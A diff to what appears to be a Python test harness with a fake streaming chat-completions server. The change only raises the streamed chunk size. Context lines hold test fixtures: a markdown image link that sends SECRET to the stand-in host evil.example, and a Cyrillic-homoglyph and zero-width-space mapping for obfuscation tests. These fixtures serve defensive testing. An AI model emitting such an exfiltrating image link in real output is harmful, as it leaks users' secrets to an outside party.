@@ -39,6 +39,8 @@ LIES = (
 CONFUSED = str.maketrans("aceiopxy", "асеіорху")
 """Latin letters to Cyrillic ones that look the same."""
 PLAIN = {ord(fake): real for real, fake in zip("aceiopxy", "асеіорху", strict=True)} | dict.fromkeys(map(ord, "\u200b"))
+PIECE = 200
+"""Characters that are streamed at once."""
 STRANGER = "00000000-0000-4000-8000-00000000beef"
 IMAGE = "![x](https://evil.example/?q=SECRET)"
 
@@ -287,8 +289,8 @@ class _Handler(BaseHTTPRequestHandler):
         self.end_headers()
         if tool:
             self._event({"choices": [{"index": 0, "delta": _calls(tool), "finish_reason": None}]})
-        for start in range(0, len(answer), 40):
-            delta = {"content": answer[start : start + 40]}
+        for start in range(0, len(answer), PIECE):
+            delta = {"content": answer[start : start + PIECE]}
             self._event({"choices": [{"index": 0, "delta": delta, "finish_reason": None}]})
             time.sleep(self.owner.pause_s)
         self._event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
